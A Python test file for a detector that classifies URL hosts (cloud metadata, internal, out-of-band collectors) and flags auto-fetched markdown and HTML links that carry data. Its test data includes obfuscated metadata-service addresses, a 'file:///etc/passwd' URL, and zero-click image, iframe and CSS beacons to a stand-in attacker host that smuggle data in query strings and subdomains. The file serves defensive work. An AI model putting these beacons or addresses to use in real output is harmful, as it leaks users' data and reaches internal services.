"""Addresses: where they point, what they take along, and which are fetched without a click."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tidegate.content.hosts import Reach, addresses_in, allowed, reach
from tidegate.content.links import carried, links_in


@pytest.mark.parametrize(
    ("host", "place"),
    [
        ("169.254.169.254", Reach.METADATA),
        ("2852039166", Reach.METADATA),
        ("0xA9FEA9FE", Reach.METADATA),
        ("0251.0376.0251.0376", Reach.METADATA),
        ("169.254.43518", Reach.METADATA),
        ("::ffff:169.254.169.254", Reach.METADATA),
        ("fd00:ec2::254", Reach.METADATA),
        ("metadata.google.internal", Reach.METADATA),
        ("10.1.2.3", Reach.INTERNAL),
        ("127.1", Reach.INTERNAL),
        ("::1", Reach.INTERNAL),
        ("localhost", Reach.INTERNAL),
        ("intranet", Reach.INTERNAL),
        ("db.orders.corp", Reach.INTERNAL),
        ("webhook.site", Reach.COLLECTOR),
        ("a1b2.oastify.com", Reach.COLLECTOR),
        ("203.0.113.66", Reach.NUMBER),
        ("docs.aws.amazon.com", Reach.PUBLIC),
        ("notwebhook.site", Reach.PUBLIC),
        ("999.1.2.3", Reach.PUBLIC),
    ],
)
def test_where_a_host_is(host: str, place: Reach):
    assert reach(host) is place


@pytest.mark.parametrize(
    ("text", "host"),
    [
        ("https://docs.example.com/a?b=c", "docs.example.com"),
        ("https://docs.example.com:8443/", "docs.example.com"),
        ("https://docs.example.com@collect.attacker-stats.net/", "collect.attacker-stats.net"),
        ("http://[fd00:ec2::254]/latest", "fd00:ec2::254"),
        ("HTTP://%31%36%39.254.169.254/", "169.254.169.254"),
        ("See https://docs.example.com.", "docs.example.com"),
        ("file:///etc/passwd", ""),
    ],
)
def test_the_host_of_an_address(text: str, host: str):
    assert [found.host for found in addresses_in(text)] == [host]


@pytest.mark.parametrize(
    ("text", "fetched"),
    [
        ("![x](https://px.attacker-stats.net/?d=1)", True),
        ("[x](https://px.attacker-stats.net/?d=1)", False),
        ('[x](https://px.attacker-stats.net/?d=1 "title")', False),
        ("![x][1]\n\n[1]: https://px.attacker-stats.net/?d=1", True),
        ("![1]\n\n[1]: <https://px.attacker-stats.net/?d=1>", True),
        ("[x][1]\n\n[1]: https://px.attacker-stats.net/?d=1", False),
        ('<img width=1 src="https://px.attacker-stats.net/?d=1">', True),
        ("<a href='https://px.attacker-stats.net/?d=1'>x</a>", False),
        ('<div style="background:url(https://px.attacker-stats.net/?d=1)">', True),
        ("<iframe src=https://px.attacker-stats.net/?d=1></iframe>", True),
    ],
)
def test_every_form_of_a_link_is_read(text: str, fetched: bool):
    [link] = links_in(text)

    assert (link.to.host, link.fetched, carried(link.to)) == ("px.attacker-stats.net", fetched, ["1"])


def test_what_an_address_takes_along():
    [address] = addresses_in("https://heronlanternseventeenbarrier.px.attacker-stats.net/a/b%20c?d=e+f&g=h#i")

    assert carried(address) == ["e f", "h", "a", "b c", "i", "heronlanternseventeenbarrier"]


def test_an_allowed_host_is_one_that_the_pattern_names():
    assert allowed("docs.example.com", ["*.example.com"])
    assert not allowed("docs.example.com.attacker-stats.net", ["*.example.com"])


@given(st.text(alphabet=st.sampled_from("[]()!<>:/?#@%&=. \nahtpsimgrc1\"'\\")))
def test_any_punctuation_is_read(text: str):
    for link in links_in("https://" + text):
        carried(link.to)
        reach(link.to.host)


@given(st.text())
def test_any_host_is_somewhere(host: str):
    assert reach(host) in Reach
